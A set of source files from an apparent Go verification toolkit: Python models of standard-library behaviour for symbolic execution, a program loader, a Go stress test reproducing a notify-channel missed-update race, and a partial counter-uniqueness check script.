        if la == 0:
            return True
        return zand(*[I.equal(x, y) for x, y in zip(a.elems(), b.elems())])
    la, lb = I.len_of(a), I.len_of(b)
    if isinstance(la, int) and isinstance(lb, int) and la != lb:
        return False
    ta, tb = I.bytes_term(a), I.bytes_term(b)
    eq = simp_bool(ta == tb)
    return eq


@contract('bytes.Compare')
def bytes_compare(I, args, ins):
    a, b = args
    va, vb = I.vec_of(a), I.vec_of(b)
    if all(isinstance(x, int) for x in va + vb):
        x, y = bytes(va), bytes(vb)
        return -1 if x < y else (1 if x > y else 0)
    raise Inconclusive('bytes.Compare on symbolic bytes')


@contract('strings.HasPrefix')
def strings_hasprefix(I, args, ins):
    s, p = args
    if isinstance(s, str) and isinstance(p, str):
        return s.startswith(p)
    raise Inconclusive('strings.HasPrefix symbolic')


@contract('strings.TrimPrefix')
def strings_trimprefix(I, args, ins):
    s, p = args
    if isinstance(s, str) and isinstance(p, str):
        return s[len(p):] if s.startswith(p) else s
    raise Inconclusive('strings.TrimPrefix symbolic')


@contract('strings.Join')
def strings_join(I, args, ins):
    parts = args[0].elems() if args[0] is not None else []
    sep = args[1]
    if all(isinstance(x, str) for x in parts) and isinstance(sep, str):
        return sep.join(parts)
    out = None
    for i, p in enumerate(parts):
        if i:
            out = concat_str(I, out, sep)
        out = p if out is None else concat_str(I, out, p)
    return out if out is not None else ''


def concat_str(I, a, b):
    if isinstance(a, str) and isinstance(b, str):
        return a + b
    return SymStr(I.mk_cat(I.str_term(a), I.str_term(b)))


# ----------------------------------------------------------------------------- logging: no effect
def _noop(I, args, ins):
    return None


def _ret_logger(I, args, ins):
    return Ptr([Native('logger')], 0)


LOGGER = Native('logger')


def logger_ptr():
    return LOGGER


for _n in ('Debug', 'Info', 'Warn', 'Error', 'DPanic', 'Log'):
    CONTRACTS['(*go.uber.org/zap.Logger).' + _n] = _noop
for _n in ('Named', 'With', 'WithOptions'):
    CONTRACTS['(*go.uber.org/zap.Logger).' + _n] = lambda I, a, ins: a[0]
CONTRACTS['go.uber.org/zap.NewNop'] = lambda I, a, ins: LOGGER
CONTRACTS['(*go.uber.org/zap.Logger).Check'] = lambda I, a, ins: None
CONTRACTS['(*go.uber.org/zap.Logger).Sync'] = lambda I, a, ins: None
CONTRACTS['(*go.uber.org/zap/zapcore.CheckedEntry).Write'] = _noop


def _zapfield(I, args, ins):
    return I.zero(I.prog.types[ins['t']])


for _n in ('String', 'Error', 'Int', 'Int64', 'Uint64', 'Bool', 'Any', 'Stringer', 'Binary', 'ByteString', 'Duration',
           'Strings', 'Uint32', 'Int32', 'Float64', 'Time', 'Namespace', 'NamedError', 'Uint', 'Skip', 'Object', 'Array',
           'Reflect', 'Stack', 'Uint8', 'Bools', 'Ints', 'Errors'):
    CONTRACTS['go.uber.org/zap.' + _n] = _zapfield
CONTRACTS['go.uber.org/zap.AddCallerSkip'] = lambda I, a, ins: None


# ----------------------------------------------------------------------------- sync in sequential harnesses
def _mutex_word(p):
    # sync.Mutex {_ noCopy? ; mu isync.Mutex{state int32; sema uint32}} -- the contract keeps its flag in a side table
    return p


LOCKS = 'locks'


def _lockstate(I, p):
    tab = I.path.ghost.setdefault(LOCKS, {})
    key = (id(p.c), p.i)
    return tab, key


@contract('(*sync.Mutex).Lock', '(*sync.RWMutex).Lock')
def mutex_lock(I, args, ins):
    p = args[0]
    if p is None:
        raise GoPanic('nil-deref', 'Lock on nil mutex', ins.get('pos', '') if ins else '')
    tab, key = _lockstate(I, p)
    st = tab.get(key, 0)
    if st != 0:
        raise GoPanic('deadlock', 'Lock of a mutex already held (sequential harness)', ins.get('pos', '') if ins else '')
    tab[key] = -1
    return None


@contract('(*sync.Mutex).Unlock', '(*sync.RWMutex).Unlock')
def mutex_unlock(I, args, ins):
    p = args[0]
    tab, key = _lockstate(I, p)
    if tab.get(key, 0) != -1:
        raise GoPanic('unlock-of-unlocked', 'sync: unlock of unlocked mutex', ins.get('pos', '') if ins else '')
    tab[key] = 0
    return None


@contract('(*sync.RWMutex).RLock')
def rw_rlock(I, args, ins):
    p = args[0]
    tab, key = _lockstate(I, p)
    st = tab.get(key, 0)
    if st < 0:
        raise GoPanic('deadlock', 'RLock of a write-held mutex (sequential harness)', ins.get('pos', '') if ins else '')
    tab[key] = st + 1
    return None


@contract('(*sync.RWMutex).RUnlock')
def rw_runlock(I, args, ins):
    p = args[0]
    tab, key = _lockstate(I, p)
    st = tab.get(key, 0)
    if st <= 0:
        raise GoPanic('unlock-of-unlocked', 'sync: RUnlock of unlocked RWMutex', ins.get('pos', '') if ins else '')
    tab[key] = st - 1
    return None


@contract('(*sync.Mutex).TryLock')
def mutex_trylock(I, args, ins):
    tab, key = _lockstate(I, args[0])
    if tab.get(key, 0) != 0:
        return False
    tab[key] = -1
    return True


@contract('(*sync.Once).Do')
def once_do(I, args, ins):
    p, f = args
    tab = I.path.ghost.setdefault('once', set())
    key = (id(p.c), p.i)
    if key in tab:
        return None
    tab.add(key)
    I.call_value(f, [], ins)
    return None


@contract('(*sync.WaitGroup).Add', '(*sync.WaitGroup).Done', '(*sync.WaitGroup).Wait')
def wg_noop(I, args, ins):
    return None


# ----------------------------------------------------------------------------- sync.Map (association list; key equality by the solver)
def _smap(I, p):
    tab = I.path.ghost.setdefault('syncmap', {})
    return tab.setdefault((id(p.c), p.i), [])


def _key_eq(I, a, b):
    """Go interface equality of two map keys: python bool or z3 Bool"""
    import z3
    if isinstance(a, Iface) and isinstance(b, Iface):
        if a.tid != b.tid:
            return False
        a, b = a.v, b.v
    elif isinstance(a, Iface) or isinstance(b, Iface):
        return a is b
    if isinstance(a, (str, SymStr)) and isinstance(b, (str, SymStr)):
        if isinstance(a, str) and isinstance(b, str):
            return a == b
        return I.str_term(a) == I.str_term(b)
    if isinstance(a, (int, bool)) and isinstance(b, (int, bool)):
        return a == b
    try:
        if z3.is_expr(a) or z3.is_expr(b):
            return a == b
    except Exception:
        pass
    if isinstance(a, Ptr) and isinstance(b, Ptr):
        return a.c is b.c and a.i == b.i
    if a is None or b is None:
        return a is b
    raise Inconclusive('sync.Map key comparison of %r and %r' % (type(a).__name__, type(b).__name__))


def _smap_find(I, ents, k):
    for i, (kk, vv) in enumerate(ents):
        e = _key_eq(I, kk, k)
        if e is True or (e is not False and I.fork_bool(e, 'sync.Map-key')):
            return i
    return -1


@contract('(*sync.Map).Load')
def smap_load(I, args, ins):
    ents = _smap(I, args[0])
    i = _smap_find(I, ents, args[1])
    return (ents[i][1], True) if i >= 0 else (None, False)


@contract('(*sync.Map).Store')
def smap_store(I, args, ins):
    ents = _smap(I, args[0])
    i = _smap_find(I, ents, args[1])
    if i >= 0:
        ents[i] = (args[1], args[2])
    else:
        ents.append((args[1], args[2]))
    return None


@contract('(*sync.Map).LoadOrStore')
def smap_load_or_store(I, args, ins):
    ents = _smap(I, args[0])
    i = _smap_find(I, ents, args[1])
    if i >= 0:
        return (ents[i][1], True)
    ents.append((args[1], args[2]))
    return (args[2], False)


@contract('(*sync.Map).Delete')
def smap_delete(I, args, ins):
    ents = _smap(I, args[0])
    i = _smap_find(I, ents, args[1])
    if i >= 0:
        ents.pop(i)
    return None


@contract('(*sync.Map).LoadAndDelete')
def smap_load_and_delete(I, args, ins):
    ents = _smap(I, args[0])
    i = _smap_find(I, ents, args[1])
    if i >= 0:
        return (ents.pop(i)[1], True)
    return (None, False)


@contract('(*sync.Map).Range')
def smap_range(I, args, ins):
    for (k, v) in list(_smap(I, args[0])):
        r = I.call_value(args[1], [k, v], ins)
        if r is False:
            break
        if r is not True:
            if not I.fork_bool(r, 'sync.Map-range'):
                break
    return None


@contract('runtime.Gosched', 'runtime.KeepAlive')
def rt_noop(I, args, ins):
    return None


# ----------------------------------------------------------------------------- intrinsics
@intrinsic('verif_assert')
def v_assert(I, args, ins):
    I.obligation(args[0], gostr(args[1]), ins.get('pos', '') if ins else '')
    return None


@intrinsic('verif_assume')
def v_assume(I, args, ins):
    c = simp_bool(args[0])
    if c is True:
        return None
    if c is False or not I.feasible(c):
        raise PathEnd('assumption false')
    I.add(c)
    return None


@intrinsic('verif_reach')
def v_reach(I, args, ins):
    I.path.ghost.setdefault('reached', []).append(gostr(args[0]))
    return None


@intrinsic('verif_stop')
def v_stop(I, args, ins):
    raise PathEnd('harness stop')


@intrinsic('verif_anyBool')
def v_anybool(I, args, ins):
    b = I.fresh_bool(gostr(args[0]))
    I.register_input(gostr(args[0]), b)
    return b


def _anyint(bits, signed):
    def f(I, args, ins):
        v = I.fresh_bv(gostr(args[0]), bits)
        I.register_input(gostr(args[0]), v)
        return v
    return f


INTRINSICS['verif_anyInt'] = _anyint(64, True)
INTRINSICS['verif_anyInt64'] = _anyint(64, True)
INTRINSICS['verif_anyUint64'] = _anyint(64, False)
INTRINSICS['verif_anyUint32'] = _anyint(32, False)
INTRINSICS['verif_anyInt32'] = _anyint(32, True)
INTRINSICS['verif_anyByte'] = _anyint(8, False)


@intrinsic('verif_anyIntMath')
def v_anyintmath(I, args, ins):
    v = I.fresh_int(gostr(args[0]))
    I.register_input(gostr(args[0]), v)
    return v


@intrinsic('verif_anyBytes')
def v_anybytes(I, args, ins):
    """arbitrary []byte: nil, or opaque bytes of arbitrary length"""
    name = gostr(args[0])
    isnil = I.fresh_bool(name + '.nil')
    I.register_input(name + '.nil', isnil)
    if I.fork_bool(isnil, 'anyBytes-nil'):
        return None
    t = I.fresh_term(name)
    I.register_input(name, t)
    return TermBytes(t)


@intrinsic('verif_anyBytesNonNil')
def v_anybytes_nn(I, args, ins):
    name = gostr(args[0])
    t = I.fresh_term(name)
    I.register_input(name, t)
    return TermBytes(t)


@intrinsic('verif_anyVec')
def v_anyvec(I, args, ins):
    """[]byte of concrete length n with free contents"""
    name, n = gostr(args[0]), args[1]
    n = I.concretize(n, 'anyVec-len') if not isinstance(n, int) else n
    el = []
    for i in range(n):
        b = I.fresh_bv('%s[%d]' % (name, i), 8)
        I.register_input('%s[%d]' % (name, i), b)
        el.append(b)
    return SliceVal(AV(el), 0, n, n)


@intrinsic('verif_bytesEq')
def v_byteseq(I, args, ins):
    return bytes_eq(I, args[0], args[1])


@intrinsic('verif_isNilBytes')
def v_isnil(I, args, ins):
    return args[0] is None


@intrinsic('verif_note')
def v_note(I, args, ins):
    I.path.events.append(gostr(args[0]))
    return None


def install(I):
    I.contracts.update(CONTRACTS)
    I.methods.update(METHODS)
    I.intrinsics.update(INTRINSICS)
    I.globals_init.update(GLOBALS)


# ----------------------------------------------------------------------------- more of the standard library
# (added so that a behaviour-preserving refactor that reaches for another common helper is still decided, not INCONCLUSIVE)
def _concrete_strs(*xs):
    return all(isinstance(x, str) for x in xs)


@contract('bytes.EqualFold')
def bytes_equalfold(I, args, ins):
    import z3
    a, b = I.bytes_term(args[0]), I.bytes_term(args[1])
    r = I.fresh_bool('equalfold')
    I.add(z3.Implies(a == b, r))  # equal inputs are fold-equal; unequal inputs may or may not be
    return r


@contract('strings.EqualFold')
def strings_equalfold(I, args, ins):
    import z3
    a, b = args
    if _concrete_strs(a, b):
        return a.lower() == b.lower()
    r = I.fresh_bool('equalfold')
    I.add(z3.Implies(I.str_term(a) == I.str_term(b), r))
    return r


@contract('strings.HasSuffix')
def strings_hassuffix(I, args, ins):
    s, p = args
    if _concrete_strs(s, p):
        return s.endswith(p)
    raise Inconclusive('strings.HasSuffix symbolic')


@contract('strings.Contains')
def strings_contains(I, args, ins):
    s, p = args
    if _concrete_strs(s, p):
        return p in s
    raise Inconclusive('strings.Contains symbolic')


@contract('strings.ToLower')
def strings_tolower(I, args, ins):
    if _concrete_strs(args[0]):
        return args[0].lower()
    raise Inconclusive('strings.ToLower symbolic')


@contract('strings.ToUpper')
def strings_toupper(I, args, ins):
    if _concrete_strs(args[0]):
        return args[0].upper()
    raise Inconclusive('strings.ToUpper symbolic')


@contract('strings.TrimSpace')
def strings_trimspace(I, args, ins):
    if _concrete_strs(args[0]):
        return args[0].strip(' \t\n\r\v\f')
    raise Inconclusive('strings.TrimSpace symbolic')


@contract('strings.TrimSuffix')
def strings_trimsuffix(I, args, ins):
    s, p = args
    if _concrete_strs(s, p):
        return s[:-len(p)] if p and s.endswith(p) else s
    raise Inconclusive('strings.TrimSuffix symbolic')


@contract('bytes.HasPrefix')
def bytes_hasprefix(I, args, ins):
    s, p = args
    ls, lp = I.len_of(s), I.len_of(p)
    if isinstance(ls, int) and isinstance(lp, int):
        if lp > ls:
            return False
        if lp == 0:
            return True
        if isinstance(s, SliceVal) and isinstance(p, SliceVal):
            return zand(*[I.equal(x, y) for x, y in zip(s.elems()[:lp], p.elems())])
    raise Inconclusive('bytes.HasPrefix on opaque bytes')


@contract('errors.As')
def errors_as(I, args, ins):
    raise Inconclusive('errors.As')


@contract('errors.Join')
def errors_join(I, args, ins):
    errs = [e for e in (args[0].elems() if args[0] is not None else []) if e is not None]
    if not errs:
        return None
    return mk_error(I, 'joined errors', wrapped=errs[0])


# sync/atomic on plain words and the typed wrappers: sequentially consistent loads and stores of the cell
def _atomic_cell(p):
    return p


def _atomic_load(I, args, ins):
    return args[0].load()


def _atomic_store(I, args, ins):
    args[0].store(args[1])
    return None


def _atomic_add(I, args, ins):
    p, d = args
    t = I.prog.types[ins['t']] if ins and 't' in ins else None
    v = p.load()
    if isinstance(v, int) and isinstance(d, int) and t is not None:
        bits, signed = t.intinfo()
        from ..interp import norm
        nv = norm(v + d, bits, signed)
    else:
        nv = v + d
    p.store(nv)
    return nv


def _atomic_swap(I, args, ins):
    p, n = args
    v = p.load()
    p.store(n)
    return v


def _atomic_cas(I, args, ins):
    p, old, new = args
    c = I.equal(p.load(), old)
    if c is True or (c is not False and I.fork_bool(c, 'atomic.CAS')):
        p.store(new)
        return True
    return False


for _t in ('Int32', 'Int64', 'Uint32', 'Uint64', 'Uintptr', 'Pointer'):
    CONTRACTS['sync/atomic.Load' + _t] = _atomic_load
    CONTRACTS['sync/atomic.Store' + _t] = _atomic_store
    CONTRACTS['sync/atomic.Swap' + _t] = _atomic_swap
    CONTRACTS['sync/atomic.CompareAndSwap' + _t] = _atomic_cas
    if _t != 'Pointer':
        CONTRACTS['sync/atomic.Add' + _t] = _atomic_add


def _typed_atomic(field_of):
    def load(I, args, ins):
        return field_of(args[0]).load()

    def store(I, args, ins):
        field_of(args[0]).store(args[1])
        return None

    def swap(I, args, ins):
        c = field_of(args[0])
        v = c.load()
        c.store(args[1])
        return v

    def cas(I, args, ins):
        c = field_of(args[0])
        e = I.equal(c.load(), args[1])
        if e is True or (e is not False and I.fork_bool(e, 'atomic.CAS')):
            c.store(args[2])
            return True
        return False

    def add(I, args, ins):
        c = field_of(args[0])
        nv = c.load() + args[1]
        c.store(nv)
        return nv
    return load, store, swap, cas, add


def _side_cell(I, p):
    """typed atomics (atomic.Bool, atomic.Int32, ...) keep their value in a side table keyed by the object"""
    tab = I.path.ghost.setdefault('atomics', {})
    key = (id(p.c), p.i)

    class Cell:
        def load(self):
            return tab.get(key, self.zero)

        def store(self, v):
            tab[key] = v
    c = Cell()
    return c


def _install_typed_atomics():
    for tname, zero in (('Bool', False), ('Int32', 0), ('Int64', 0), ('Uint32', 0), ('Uint64', 0)):
        def mk(zero):
            def cell(I, p):
                c = _side_cell(I, p)
                c.zero = zero
                return c
            return cell
        cellf = mk(zero)

        def wrap(kind, cellf=cellf):
            def f(I, args, ins):
                c = cellf(I, args[0])
                if kind == 'Load':
                    return c.load()
                if kind == 'Store':
                    c.store(args[1])
                    return None
                if kind == 'Swap':
                    v = c.load()
                    c.store(args[1])
                    return v
                if kind == 'CompareAndSwap':
                    e = I.equal(c.load(), args[1])
                    if e is True or (e is not False and I.fork_bool(e, 'atomic.CAS')):
                        c.store(args[2])
                        return True
                    return False
                if kind == 'Add':
                    nv = c.load() + args[1]
                    c.store(nv)
                    return nv
            return f
        for kind in ('Load', 'Store', 'Swap', 'CompareAndSwap') + (('Add',) if tname != 'Bool' else ()):
            CONTRACTS['(*sync/atomic.%s).%s' % (tname, kind)] = wrap(kind)


_install_typed_atomics()


@contract('sort.Slice', 'sort.SliceStable')
def sort_slice(I, args, ins):
    """insertion sort driven by the caller's less(i, j) on the real slice (comparisons that the path condition does not
    decide fork)"""
    sl, less = args
    if sl is None:
        return None
    v = sl.v if isinstance(sl, Iface) else sl
    n = I.len_of(v)
    if not isinstance(n, int):
        raise Inconclusive('sort.Slice of symbolic length')
    els = v.arr
    off = v.off
    for i in range(1, n):
        j = i
        while j > 0:
            r = I.call_value(less, [j, j - 1], ins)
            if not (r is True or (r is not False and I.fork_bool(r, 'sort.less'))):
                break
            els[off + j], els[off + j - 1] = els[off + j - 1], els[off + j]
            j -= 1
    return None


@contract('sort.Strings')
def sort_strings(I, args, ins):
    v = args[0]
    if v is None:
        return None
    n = I.len_of(v)
    xs = [v.arr[v.off + i] for i in range(n)]
    if not _concrete_strs(*xs):
        raise Inconclusive('sort.Strings symbolic')
    for i, x in enumerate(sorted(xs)):
        v.arr[v.off + i] = x
    return None
