"""Program model: loads the JSON written by engine/ssadump (go/ssa of the current /repo tree)."""
import json, os, subprocess, tempfile, time, hashlib

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
SSADUMP = os.path.join(ROOT, 'bin', 'ssadump')
REPO = os.environ.get('VERIF_REPO', '/repo')

INT_KINDS = {
    'int': (64, True), 'int8': (8, True), 'int16': (16, True), 'int32': (32, True), 'int64': (64, True),
    'uint': (64, False), 'uint8': (8, False), 'uint16': (16, False), 'uint32': (32, False), 'uint64': (64, False),
    'uintptr': (64, False), 'byte': (8, False), 'rune': (32, True),
    'untyped int': (64, True), 'untyped rune': (32, True),
}


class Type:
    __slots__ = ('id', 'kind', 'str', 'name', 'elem', 'key', 'len', 'fields', 'methods', 'imeths',
                 'params', 'results', 'size', 'prog', '_u')

    def __init__(self, prog, d):
        self.prog = prog
        self.id = d['id']
        self.kind = d['kind']
        self.str = d['str']
        self.name = d.get('name', '')
        self.elem = d.get('elem', 0)
        self.key = d.get('key', 0)
        self.len = d.get('len', 0)
        self.fields = d.get('fields', [])
        self.methods = d.get('methods') or {}
        self.imeths = d.get('imeths') or []
        self.params = d.get('sigparams') or []
        self.results = d.get('sigresults') or []
        self.size = d.get('size', 0)
        self._u = None

    def under(self):
        """underlying (non-named) type"""
        if self._u is None:
            t = self
            while t.kind == 'named':
                t = self.prog.types[t.elem]
            self._u = t
        return self._u

    def elemt(self):
        return self.prog.types[self.elem]

    def keyt(self):
        return self.prog.types[self.key]

    def isint(self):
        u = self.under()
        return u.kind == 'basic' and u.name in INT_KINDS

    def intinfo(self):
        return INT_KINDS[self.under().name]

    def isbool(self):
        u = self.under()
        return u.kind == 'basic' and u.name in ('bool', 'untyped bool')

    def isstring(self):
        u = self.under()
        return u.kind == 'basic' and u.name in ('string', 'untyped string')

    def isfloat(self):
        u = self.under()
        return u.kind == 'basic' and u.name in ('float64', 'float32', 'untyped float')

    def isiface(self):
        return self.under().kind == 'interface'

    def __repr__(self):
        return 'T<%s>' % self.str


class Func:
    __slots__ = ('name', 'pkg', 'params', 'freevars', 'results', 'blocks', 'recover', 'pos', 'srchash', 'synth',
                 'variadic', 'nregs')

    def __init__(self, d):
        self.name = d['name']
        self.pkg = d.get('pkg', '')
        self.params = d.get('params') or []
        self.freevars = d.get('freevars') or []
        self.results = d.get('results') or []
        self.blocks = d['blocks']
        self.recover = d.get('recover', -1)
        self.pos = d.get('pos', '')
        self.srchash = d.get('srchash', '')
        self.synth = d.get('synth', '')
        self.variadic = d.get('variadic', False)


class Program:
    def __init__(self, doc):
        self.types = {}
        for td in doc['types']:
            self.types[td['id']] = Type(self, td)
        self.bystr = {t.str: t for t in self.types.values()}
        self.funcs = {}
        for fd in doc['funcs']:
            self.funcs[fd['name']] = Func(fd)
        self.globals = {g['name']: g for g in doc.get('globals') or []}
        self.nobody = set(doc.get('nobody') or [])
        self.entries = doc.get('entries') or []

    def type_by_str(self, s):
        return self.bystr.get(s)


def load_program(packages, entries, overlays, bodies=(), workdir=None, allsyntax=False):
    """Run the Go front end on the current /repo working tree.

    overlays: {virtual path under /repo: real harness file}
    """
    own = workdir is None
    if own:
        workdir = tempfile.mkdtemp(prefix='wesym-')
    ov = os.path.join(workdir, 'overlay.json')
    out = os.path.join(workdir, 'ssa.json')
    with open(ov, 'w') as f:
        json.dump(overlays, f)
    env = dict(os.environ)
    env['GOFLAGS'] = '-mod=mod'
    env['GOPROXY'] = 'off'
    env.pop('GOSUMDB', None)
    env['GOTOOLCHAIN'] = 'auto'
    cmd = [SSADUMP, '-dir', REPO, '-overlay', ov, '-entry', ','.join(entries), '-out', out]
    if bodies:
        cmd += ['-bodies', ','.join(bodies)]
    if allsyntax:
        cmd += ['-allsyntax']
    cmd += list(packages)
    t0 = time.time()
    r = subprocess.run(cmd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    dt = time.time() - t0
    if r.returncode != 0:
        raise FrontEndError(r.stderr[-4000:])
    with open(out) as f:
        doc = json.load(f)
    if own:
        import shutil
        shutil.rmtree(workdir, ignore_errors=True)
    p = Program(doc)
    p.frontend_seconds = dt
    return p


class FrontEndError(Exception):
    pass
