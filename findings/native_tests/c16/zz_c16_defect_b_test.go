package weshnet

// Defect B: missed update.
//
// UpdateState writes sp.status under muState and calls g.notify.Broadcast()
// without holding g.notify.L.  A waiter in WaitForConnectednessChange holds L,
// runs updateStatus() (no diff), and only afterwards - inside notify.Wait -
// creates the channel it sleeps on (getChan).  An UpdateState that lands
// between the waiter's updateStatus() and its getChan() finds n.cc == nil, so
// Broadcast is a no-op and the waiter sleeps on a stale view.
//
// Stress only, real code untouched.  Per iteration:
//   AssociatePeer(g_i, p_i) beforehand, current = {p_i: Disconnected}
//   waiter : WaitForConnectednessChange(ctx, g_i, current)
//   updater: UpdateState(p_i, Connected)   (exactly once, after a random spin)
// Expected: waiter returns ([p_i], true).  A "miss" is counted when the waiter
// is still blocked C16_B_TIMEOUT_MS (default 200ms) after UpdateState returned
// AND its goroutine is parked in the select of notify.(*Notify).Wait AND the
// tracked status is Connected.
//
// C16_NOISE goroutines hammer UpdateState on unrelated peers (not associated
// with any group => no Broadcast) to create realistic contention on muState.

import (
	"context"
	"fmt"
	"math/rand"
	"os"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	peer "github.com/libp2p/go-libp2p/core/peer"
)

var c16Sink atomic.Int64

func TestC16DefectB_MissedUpdate(t *testing.T) {
	iters := c16EnvInt("C16_ITERS", 200000)
	noise := c16EnvInt("C16_NOISE", 4)
	maxDelay := c16EnvInt("C16_MAXDELAY", 1<<13)
	timeout := time.Duration(c16EnvInt("C16_B_TIMEOUT_MS", 200)) * time.Millisecond
	maxMiss := c16EnvInt("C16_MAXMISS", 20)
	procs := runtime.GOMAXPROCS(0)
	control := os.Getenv("C16_B_CONTROL") == "1"
	t.Logf("control=%v", control)
	t.Logf("GOMAXPROCS=%d NumCPU=%d iters=%d noise=%d maxDelay=%d timeout=%v", procs, runtime.NumCPU(), iters, noise, maxDelay, timeout)

	var mp atomic.Pointer[ConnectednessManager]
	mp.Store(NewConnectednessManager())

	var stop atomic.Bool
	var wg sync.WaitGroup
	for n := 0; n < noise; n++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			id := peer.ID(fmt.Sprintf("noise-%d", n))
			s := ConnectednessTypeDisconnected
			for !stop.Load() {
				s = (s + 1) % 3
				mp.Load().UpdateState(id, s)
			}
		}(n)
	}
	defer func() { stop.Store(true); wg.Wait() }()

	rng := rand.New(rand.NewSource(1))
	type res struct {
		ids []peer.ID
		ok  bool
	}

	misses, unconfirmed, wrong := 0, 0, 0
	var missIters []int
	var missDelays []int
	ran := 0
	startT := time.Now()
	for i := 0; i < iters && misses < maxMiss; i++ {
		ran++
		if i%20000 == 0 && i > 0 {
			mp.Store(NewConnectednessManager()) // bound memory
		}
		m := mp.Load()
		g := fmt.Sprintf("g%d", i)
		p := peer.ID(fmt.Sprintf("p%d", i))
		m.AssociatePeer(g, p)
		current := PeersConnectedness{p: ConnectednessTypeDisconnected}

		// log-uniform spin delay for the updater
		d := 0
		if maxDelay > 0 {
			d = int(float64(maxDelay) * rng.Float64() * rng.Float64())
		}

		ctx, cancel := context.WithCancel(context.Background())
		var gate atomic.Int32
		done := make(chan res, 1)
		updDone := make(chan struct{})
		spinYield := procs < 3

		go func() {
			gate.Add(1)
			for gate.Load() < 3 {
				if spinYield {
					runtime.Gosched()
				}
			}
			ids, ok := m.WaitForConnectednessChange(ctx, g, current)
			done <- res{ids, ok}
		}()
		go func() {
			defer close(updDone)
			gate.Add(1)
			for gate.Load() < 3 {
				if spinYield {
					runtime.Gosched()
				}
			}
			for k := 0; k < d; k++ {
				c16Sink.Add(1)
			}
			if control {
				// CONTROL: hold the group's notify.L around the status write +
				// Broadcast (lock order L -> muState, same as the waiter). The
				// waiter holds L from updateStatus() until getChan() returned, so
				// the window is closed; expected misses: 0.
				l := m.groupState[g].notify.L // group exists, map not mutated concurrently in control runs (noise peers have no groups)
				l.Lock()
				m.UpdateState(p, ConnectednessTypeConnected)
				l.Unlock()
				return
			}
			m.UpdateState(p, ConnectednessTypeConnected)
		}()
		for gate.Load() < 2 {
			runtime.Gosched()
		}
		gate.Add(1)

		<-updDone
		select {
		case r := <-done:
			if !r.ok || len(r.ids) != 1 || r.ids[0] != p || current[p] != ConnectednessTypeConnected {
				wrong++
				t.Logf("iteration %d: unexpected result ids=%v ok=%v current=%v", i, r.ids, r.ok, current)
			}
		case <-time.After(timeout):
			// still blocked although UpdateState(p, Connected) returned `timeout` ago
			parked := false
			var stack string
			for _, blk := range c16Goroutines("WaitForConnectednessChange") {
				if strings.Contains(blk, "notify.(*Notify).Wait") && strings.Contains(blk, "[select") {
					parked = true
					stack = blk
				}
			}
			m.muState.Lock()
			tracked := m.peerState[p].status
			m.muState.Unlock()
			cancel()
			r := <-done
			if parked && tracked == ConnectednessTypeConnected && !r.ok && len(r.ids) == 0 && current[p] == ConnectednessTypeDisconnected {
				misses++
				missIters = append(missIters, i)
				missDelays = append(missDelays, d)
				if misses <= 2 {
					t.Logf("iteration %d (spin=%d): MISSED UPDATE: tracked status=%d (Connected) but waiter with current[p]=%d still asleep %v after UpdateState returned; after cancel it returned ids=%v ok=%v\n%s\n",
						i, d, tracked, current[p], timeout, r.ids, r.ok, stack)
				}
			} else {
				unconfirmed++
				t.Logf("iteration %d: timeout but not confirmed: parked=%v tracked=%d ids=%v ok=%v current=%v", i, parked, tracked, r.ids, r.ok, current)
			}
		}
		cancel()
	}
	t.Logf("RESULT defect B: %d confirmed missed updates in %d iterations (%.3g per iteration), unconfirmed timeouts=%d, wrong results=%d, elapsed=%v",
		misses, ran, float64(misses)/float64(ran), unconfirmed, wrong, time.Since(startT).Round(time.Millisecond))
	t.Logf("miss iterations=%v spin delays=%v", missIters, missDelays)
	if misses > 0 {
		t.Errorf("MISSED UPDATE reproduced %d times in %d iterations", misses, ran)
	}
}
