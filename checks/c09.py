#!/usr/bin/env python3
"""C09: concurrent sends never reuse a counter; the chain only moves forward (schedule-symbolic BMC)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
from wesym.contracts import crypto
from wesym import bmc
import c01, c02
import z3


def install(I):
    def final_check(I, w, state):
        obs = {}
        for th in w.threads:
            cs, gs = [], []
            for o in th.ops:
                if o.kind == 'observe' and o.label == 'counter':
                    cs.append(o.args[0])
                if o.kind == 'observe' and o.label == 'group':
                    gs.append(o.args[0])
            obs[th] = list(zip(cs, gs))
        allobs = [x for th in w.threads for x in obs[th]]
        out = []
        conds = []
        for i in range(len(allobs)):
            for j in range(i + 1, len(allobs)):
                (c1, g1), (c2, g2) = allobs[i], allobs[j]
                same = g1.eq(g2)
                if same:
                    conds.append(bmc_bv(c1) != bmc_bv(c2))
        out.append(('C09: envelopes sealed on a group carry pairwise distinct counters', z3.And(*conds) if conds else True))
        # gap-free: the counters on one group are exactly 1..k (chain keys were created at counter 0)
        groups = {}
        for (c, g) in allobs:
            groups.setdefault(g.sexpr(), []).append(c)
        gap = []
        for cs in groups.values():
            k = len(cs)
            for c in cs:
                gap.append(z3.And(z3.UGE(bmc_bv(c), 1), z3.ULE(bmc_bv(c), k)))
        out.append(('C09: counters form the gap-free sequence 1..k', z3.And(*gap) if gap else True))
        # per sender: its own successive counters increase
        inc = []
        for th in w.threads:
            seq = obs[th]
            for a, b in zip(seq, seq[1:]):
                if a[1].eq(b[1]):
                    inc.append(z3.ULT(bmc_bv(a[0]), bmc_bv(b[0])))
        out.append(('C09: the counters a sender obtains increase (the stored chain counter never decreases)', z3.And(*inc) if inc else True))
        return out
    I.bmc_final_check = final_check

    def typed(I, kt):
        from wesym import terms as T
        from wesym.contracts import crypto as cr
        a = T.is_app(kt, 'kpath')
        if a is None:
            return None
        cb = T.concrete_bytes(a[0])
        if cb == b'chainKeyForDeviceOnGroup':
            ck = I.fresh_term('stored.chainKey')
            I.add(T.blen(ck) == 32)
            cnt = I.fresh_bv('stored.counter', 64)
            I.register_input('stored.counter', cnt)
            t = T.app('pb:DeviceChainKey', ck, cr.u64term(cnt))
            I.add(T.blen(t) >= 32)
            return t
        return None
    I.ds_typed = typed


def bmc_bv(c):
    return z3.BitVecVal(c, 64) if isinstance(c, int) else c


import functools
from wesym import coop


def _coop_inst(preemptions, I):
    coop.install(I, preemptions=preemptions)


def main():
    t = tier()
    chk = Check('C09', c01.PKGS, 'pkg/secretstore',
                ['secretstore/zz_verif_env.go', 'secretstore/zz_verif_rand.go', 'C09/zz_verif_c09.go'],
